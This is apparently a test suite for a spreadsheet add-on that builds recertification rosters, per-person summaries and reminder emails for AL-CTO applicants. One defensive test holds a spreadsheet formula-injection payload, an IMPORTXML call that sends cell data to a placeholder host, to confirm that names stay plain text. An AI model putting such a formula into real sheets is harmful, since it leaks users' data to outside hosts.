// The roster of everybody in a log, through the built add-on.
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import Excel from 'exceljs';
import type { CheckAnswer, CheckRequest, SheetReading } from '../../../src/core/protocol/messages';
import type { ApplicantReport, CheckReport } from '../../../src/core/report/check-report';
import { keyOf, nameOf } from '../../../src/core/report/person-key';
import { makeMessage } from '../../../src/core/report/person-message';
import { makeRosterLines } from '../../../src/core/report/roster-rows';
import { ROSTER_SHEET } from '../../../src/core/report/roster-table';
import type { LocalHost } from '../../../src/local/apps-script/host';
import { formatReport } from '../../../src/local/cli/text-report';
import { writeXlsx } from '../../../src/local/files/write-xlsx';
import { assessFile } from '../../../src/local/roster/assess-file';
import * as ofFiles from '../../../src/local/roster/roster-row';
import { writeRosters } from '../../../src/local/roster/write-roster';
import { askAbout } from '../../../src/sidebar/fix/questions';
import { reviewerFields } from '../../../src/sidebar/fix/reviewer';
import type { ChangeSet, Filled } from '../../../src/sidebar/fix/task';
import { openTestHost, type TestCell } from '../../addon/open-test-host';
import { askContext, decideTask } from '../panel-tasks';
import {
  day,
  FORM,
  MEALS,
  RESPONSES,
  response,
  SET_UP,
  WITH_MEALS,
} from '../submit/response-sheet';

const NOW = () => Date.UTC(2026, 10, 23, 18);
/** Written by hand from the responses above. */
const BY_HAND = [
  [
    'Bob Ray',
    'Dale',
    'Delta',
    '2026-10-01',
    'Expired',
    7,
    'Roles And Responsibilities: 5 h; Data Management and Governance: 5 h; Teaching and Learning: 5 h; ' +
      'IT Management: 3 h; Technology Planning: 5 h; Elective hours: 30 h',
    1,
    'not checked here',
    'Under another name or spelling: row 10. Sent after the expiration date: row 9.',
  ],
  [
    'Ann Lee',
    'Elmore',
    'Beta',
    '2027-06-15',
    'Behind (our estimate)',
    10,
    'Roles And Responsibilities: 5 h; Law, Ethics, and Policies: 5 h; Data Management and Governance: 5 h; ' +
      'Teaching and Learning: 5 h; Technology Planning: 1 h; Elective hours: 29 h',
    0,
    'not checked here',
    'Another person has the same name. This one is ann@a.org.',
  ],
  [
    'Ann Lee',
    'Mobile',
    '',
    '2028-01-10',
    'Behind (our estimate)',
    8,
    'Roles And Responsibilities: 5 h; Law, Ethics, and Policies: 5 h; Data Management and Governance: 5 h; ' +
      'Teaching and Learning: 5 h; IT Management: 5 h; Elective hours: 27 h',
    0,
    'not checked here',
    'Another person has the same name. This one is ann@b.org.',
  ],
  [
    'Cy Doe',
    'Dale',
    '',
    '',
    'Not assessed',
    '',
    '',
    '',
    'not checked here',
    'There is no issue date for this person. Enter it in “AL-CTO Setup”.',
  ],
];

type Sheets = Record<string, TestCell[][]>;

const open = (log = RESPONSES, setUp = SET_UP, more: Sheets = {}) =>
  openTestHost({ [FORM]: log, 'AL-CTO Setup': setUp, ...more }, { now: NOW });

function check(host: LocalHost, request: CheckRequest = {}): CheckReport {
  const answer = host.call('checkCompliance', request) as CheckAnswer;
  if (!answer.ok) throw new Error(JSON.stringify(answer));
  return answer.report;
}

const read = (host: LocalHost, sheet?: string) =>
  host.call('readSheet', sheet ? { sheet } : {}) as SheetReading;

const put = (row: TestCell[], index: number, cell: TestCell) =>
  row.map((each, place) => (place === index ? cell : each));

/** Makes the roster sheet as the panel does. */
const makeSheet = (host: LocalHost) => host.call('makeSheets', { kind: 'roster' });

// The cells of the bar are blank.
const BAR_CELLS = 24;
const withoutBar = <Cell>(cells: Cell[], start: number) => cells.toSpliced(start, BAR_CELLS);

const plain = (rows: SheetReading['rows']) =>
  rows.map((cells) =>
    withoutBar(cells, 5).map((cell) =>
      typeof cell === 'object' && 'day' in cell ? cell.day : cell,
    ),
  );

const personOf = (report: CheckReport, email: string) =>
  report.applicants.find((each) => each.email === email) as ApplicantReport;

test('the roster of a response sheet is the one a careful person would write by hand', async () => {
  const host = await open();
  expect(makeSheet(host)).toMatchObject({ ok: true });
  const rows = plain(read(host, ROSTER_SHEET).rows);
  expect(rows[3]).toEqual([
    'Name',
    'District',
    'Cohort',
    'Expires',
    'Standing',
    'Covered hours (of 60)',
    'Still needed',
    'Rows needing a decision',
    'Plan documents',
    'Note',
  ]);
  expect(rows.slice(4, 8)).toEqual(BY_HAND);
  expect(rows.flat()).toContain(
    `“${FORM}”, row 12: no name, so nobody gets the hours. Enter the name.`,
  );
});

test('it says what the roster of many files says of the same people', async () => {
  const host = await open();
  makeSheet(host);
  const folder = mkdtempSync(path.join(tmpdir(), 'alcto-roster-'));
  const file = path.join(folder, 'responses.xlsx');
  writeFileSync(file, await writeXlsx(host.toWorkbookFile()));
  const result = await assessFile(file, {
    bundle: readFileSync('dist/Code.js', 'utf8'),
    functions: readFileSync('dist/functions.js', 'utf8'),
    request: { asOf: '2026-11-23' },
    timeZone: 'America/Chicago',
    locale: 'en_US',
  });
  rmSync(folder, { recursive: true });
  const rows = ofFiles.makeRosterRows([{ file: 'a', result }]);
  const bytes = await writeRosters([{ program: 'al-cto', rows }], '2026-11-23');
  const workbook = new Excel.Workbook();
  await workbook.xlsx.load(Buffer.from(bytes) as unknown as Excel.Buffer);
  const sheet = workbook.getWorksheet(ROSTER_SHEET);
  const show = (value: Excel.CellValue) =>
    value instanceof Date ? value.toISOString().slice(0, 10) : (value ?? '');
  // Name to plan papers; the file before them and the note after them are each roster's own.
  const theirs = (sheet?.getRows(2, 4) ?? []).map((row) =>
    Array.from({ length: 9 }, (_, index) => show(row.getCell(index + 2).value)),
  );
  const mine = plain(read(host, ROSTER_SHEET).rows)
    .slice(4, 8)
    .map((cells) => cells.slice(0, 9));
  expect(theirs).toEqual(mine);
});

test('two people of one name are opened, and have their Summary made, by address', async () => {
  const host = await open();
  const summaryOf = (applicant: string) => {
    expect(host.call('makeSummary', { applicant })).toMatchObject({ ok: true });
    return plain(read(host, 'AL-CTO Summary').rows).flat();
  };
  expect(summaryOf('ann@b.org')).toContain('Mobile');
  expect(summaryOf('ann@a.org')).toContain('Elmore');
  const report = check(host);
  expect(report.applicants.map(keyOf)).toEqual(['ann@a.org', 'ann@b.org', 'bob@a.org', 'cy@a.org']);
  expect(report.applicants.map((each) => nameOf(each, report.applicants))).toEqual([
    'Ann Lee <ann@a.org>',
    'Ann Lee <ann@b.org>',
    'Bob Ray',
    'Cy Doe',
  ]);
});

test('a set-up may name its applicant by address, and a date by address wins over one by name', async () => {
  const setUp = [
    ['Applicant', 'ann@b.org'],
    ['Issue date', day('2025-01-10')],
    [],
    ['Applicant', 'Issue date'],
    ['ann@a.org', day('2024-06-15')],
    ['bob@a.org', day('2023-10-01')],
    ['Bob Ray', day('2024-01-01')],
  ];
  const { applicants } = check(await open(RESPONSES, setUp));
  expect(applicants.map(({ email, cycle }) => [email, cycle?.issued])).toEqual([
    ['ann@b.org', '2025-01-10'],
    ['ann@a.org', '2024-06-15'],
    ['bob@a.org', '2023-10-01'],
    ['cy@a.org', undefined],
  ]);
});

test('among several people one who gave no name is called by the address', async () => {
  const nameless = RESPONSES.map((row) => (row[1] === 'cy@a.org' ? put(row, 2, '') : row));
  const report = check(await open(nameless));
  expect(personOf(report, 'cy@a.org')).toMatchObject({ applicant: 'cy@a.org', cycle: null });
});

test('plan papers are told of the set-up’s person alone', async () => {
  const plan = [
    ['Plan document Technology plan', 'FOUND: plan.docx', ''],
    ['Plan section Mission Statement', 'MISSING: please check', ''],
    ['Plan section Evaluation Method', 'CONFIRMED on 2026-11-01: page 9', ''],
  ];
  const host = await open(RESPONSES, [...SET_UP.slice(0, 4), ...plan, ...SET_UP.slice(4)]);
  const report = check(host);
  expect(makeRosterLines(report.applicants).map(({ name, plan }) => [name, plan])).toEqual([
    ['Bob Ray', 'not checked here'],
    ['Ann Lee', 'to do: Mission Statement'],
    ['Ann Lee', 'not checked here'],
    ['Cy Doe', 'not checked here'],
  ]);
});

test('people in several tabs are in one roster, and a form sent again in another tab replaces the first', async () => {
  const [headings = [], ...rows] = RESPONSES;
  const of = (email: string) => [headings, ...rows.filter((row) => row[1] === email)];
  const host = await openTestHost(
    {
      Ann: of('ann@a.org'),
      Bob: of('bob@a.org'),
      'AL-CTO Setup': [['Log sheets', 'Ann; Bob'], ...SET_UP],
    },
    { now: NOW },
  );
  expect(makeSheet(host)).toMatchObject({ ok: true });
  const names = read(host, ROSTER_SHEET).rows.slice(4, 6);
  expect(names.map(([name, district]) => [name, district])).toEqual([
    ['Bob Ray', 'Dale'],
    ['Ann Lee', 'Elmore'],
  ]);
  const report = check(host);
  const sent = personOf(report, 'ann@a.org').rows;
  expect(sent.flatMap(({ findings }) => findings.map(({ message }) => message))).toContain(
    'Row 4: Replaced by row 5.',
  );
});

test.each(['=IMPORTXML("https://x.test/?d="&A2,"//a")', '+1+1', '@x', 'Two\nlines\tand a tab'])(
  'the name %j stays a text in one line',
  async (name) => {
    const hostile = RESPONSES.map((row) =>
      row[1] === 'bob@a.org' ? put(row, 2, { v: name, t: 1 }) : row,
    );
    const host = await open(hostile, [...SET_UP, ['bob@a.org', day('2023-10-01')]]);
    expect(makeSheet(host)).toMatchObject({ ok: true });
    const [first] = read(host, ROSTER_SHEET).rows.slice(4);
    expect(first?.[0]).toBe(name.replace(/\s/g, ' '));
    const report = check(host);
    const { text } = makeMessage(report, personOf(report, 'bob@a.org'));
    expect(text.split('\n')[0]).toBe(`Dear ${name.replace(/\s/g, ' ')},`);
  },
);

test('a sheet of that name that is not ours is left alone; ours is made anew', async () => {
  const notes: TestCell[][] = [['My own notes']];
  const foreign = await open(RESPONSES, SET_UP, { [ROSTER_SHEET]: notes });
  expect(makeSheet(foreign)).toMatchObject({ ok: false, faults: [{ code: 'SUMMARY_FOREIGN' }] });
  expect(read(foreign, ROSTER_SHEET).rows).toEqual([['My own notes']]);

  const host = await open();
  makeSheet(host);
  // Bob's rows go to Cy.
  for (const row of [4, 9, 10]) {
    const cells = [
      { column: 2, before: 'bob@a.org', after: 'cy@a.org' },
      { column: 3, before: row === 10 ? 'Robert Ray' : 'Bob Ray', after: 'Cy Doe' },
    ];
    host.call('editCells', { edits: [{ op: 'write', sheet: FORM, row, cells }] });
  }
  makeSheet(host);
  const texts = plain(read(host, ROSTER_SHEET).rows).flat();
  expect(texts).toContain('Cy Doe');
  expect(texts).not.toContain('Bob Ray');
});

/** Carries out the decision on a row, as the panel does. */
function decideRow(host: LocalHost, row: number, filled: Filled) {
  const report = check(host);
  const of = report.applicants.flatMap(({ rows }) => rows).find((each) => each.row === row);
  const finding = of?.findings.find(({ effect }) => effect === 'hold');
  if (!of || !finding) throw new Error(`row ${row} does not wait`);
  const context = { ...CONTEXT, isSeveral: true };
  const { fields } = askAbout(of, askContext(of, context));
  expect(fields).toContainEqual(expect.objectContaining({ name: 'reviewer' }));
  const task = decideTask([{ row: of, finding }], context);
  const { edits } = task.change(read(host, FORM), filled) as ChangeSet;
  expect(host.call('editCells', { edits })).toMatchObject({ ok: true });
}

const CONTEXT = { isMonthFirst: true, courses: [], isSeveral: false };

test('a decision of the reviewer and one of the applicant are told apart by name', async () => {
  const host = await open(WITH_MEALS);
  decideRow(host, 13, { reviewer: '  Jo\n(J.) Doe; Ed.D. ' });
  decideRow(host, 14, { reviewer: '' });
  const { rows, columns } = read(host, FORM);
  const confirmed = [13, 14].map((row) => rows[row - 1]?.[(columns.confirmed ?? 0) - 1]);
  expect(confirmed).toEqual([
    '7 hours on 10/1/2025 exclude meals and exhibit hall (reviewer Jo J. Doe Ed.D.)',
    '6 hours on 10/3/2025 exclude meals and exhibit hall',
  ]);
  const report = check(host);
  const settled = personOf(report, 'ann@a.org').rows.filter(({ row }) => row > 12);
  expect(settled.map(({ status }) => status)).toEqual(['COUNTED', 'COUNTED']);
  expect(settled.map(({ findings }) => findings[0]?.reviewer)).toEqual([
    'Jo J. Doe Ed.D.',
    undefined,
  ]);
  host.call('makeSummary', { applicant: 'ann@a.org' });
  const summary = plain(read(host, 'AL-CTO Summary').rows);
  const start = summary.findIndex(([first]) => first === 'Counted on confirmation');
  const end = summary.findIndex((cells, at) => at > start && cells.every((cell) => cell === ''));
  const listed = summary.slice(start + 1, end).flat();
  expect(listed.filter((cell) => typeof cell === 'number')).toEqual([7, 13, 6, 14]);
  const words = listed.filter((cell) => typeof cell === 'string' && cell !== '').join(' ');
  expect(words).toMatch(/Fall .* by reviewer Jo J\. Doe Ed\.D\. .*Winter .* by the applicant/);
  expect(formatReport(report, { color: false })).toContain(
    'or registration. Confirmed by reviewer Jo J. Doe Ed.D.: it counts. (7 h)',
  );
  const [, ann] = makeRosterLines(report.applicants);
  expect(ann?.note).toContain('Confirmed by reviewer Jo J. Doe Ed.D.: row 13.');
});

test('one person in the log is asked for no reviewer', () => {
  expect(reviewerFields(CONTEXT)).toEqual([]);
});

test('a later decision about the row leaves the reviewer’s as it was', async () => {
  const long = response(
    ['2025-11-05', 'ann@a.org', 'Ann Lee', 'Elmore'],
    ['Long course', '2025-11-04', 25, 'Roles And Responsibilities'],
    MEALS,
  );
  const host = await open([...WITH_MEALS, long]);
  decideRow(host, 15, { reviewer: 'Jo Doe' });
  decideRow(host, 15, { reviewer: '' });
  const { rows, columns } = read(host, FORM);
  expect(rows[14]?.[(columns.confirmed ?? 0) - 1]).toBe(
    '25 hours on 11/4/2025 are correct (reviewer Jo Doe); 25 hours on 11/4/2025 exclude meals and exhibit hall',
  );
  expect(personOf(check(host), 'ann@a.org').rows.find(({ row }) => row === 15)).toMatchObject({
    status: 'COUNTED',
    findings: [
      { code: 'HOURS_IMPLAUSIBLE', reviewer: 'Jo Doe' },
      { code: 'EXCLUDED_TIME', isConfirmed: true },
    ],
  });
});

test('the message says what is missing, row by row', async () => {
  const report = check(await open(WITH_MEALS));
  expect(makeMessage(report, personOf(report, 'ann@a.org'))).toEqual({
    name: 'Ann Lee',
    address: 'ann@a.org',
    subject: 'AL-CTO recertification: 50 hours to go',
    text: MESSAGE,
  });
  expect(makeMessage(report, personOf(report, 'cy@a.org'))).toMatchObject({
    subject: 'AL-CTO recertification: we need your issue date',
    text: expect.stringContaining('Dear Cy Doe,\n\nWe need the issue date of your certificate'),
  });
});

const MESSAGE = `Dear Ann Lee,

Your log for the cycle Jun 15, 2024 to Jun 15, 2027, as of Nov 23, 2026: 10 of the 60 hours you need count; 50 hours to go.

Still needed:
- Roles And Responsibilities: 5 hours
- Law, Ethics, and Policies: 5 hours
- Data Management and Governance: 5 hours
- Teaching and Learning: 5 hours
- Technology Planning: 1 hour
- In any course: 29 hours

Please send us what is missing:
- “Fall conference”, Oct 1, 2025, 7 hours: may include meals or exhibit time
- “Winter conference”, Oct 3, 2025, 6 hours: may include meals or exhibit time

These don’t count:
- “Switches in depth”, Sep 10, 2025, 6 hours: same as another row

Please reply by Dec 7, 2026.

This is a self-check: whether an activity qualifies is the AL-CTO program's decision.`;

test('a message of hundreds of rows is whole; a missing column is named in each', async () => {
  const many = Array.from({ length: 300 }, (_, index) =>
    response(
      ['2025-10-02', 'ann@a.org', 'Ann Lee', 'Elmore'],
      [`Talk ${index} of many`, '2025-10-01', 1, 'IT Management'],
    ),
  );
  const bare = [...RESPONSES, ...many].map((cells) => cells.filter((_, index) => index !== 8));
  const report = check(await open(bare));
  const message = makeMessage(report, personOf(report, 'ann@a.org')).text;
  expect(message.match(/no column “Justification/g)).toHaveLength(304);
  expect(message).toContain(
    '- “Talk 299 of many”, Oct 1, 2025, 1 hour: the log has no column “Justification of Relation to Coursework”',
  );
  expect(message).toMatch(/the AL-CTO program's decision\.$/);
});
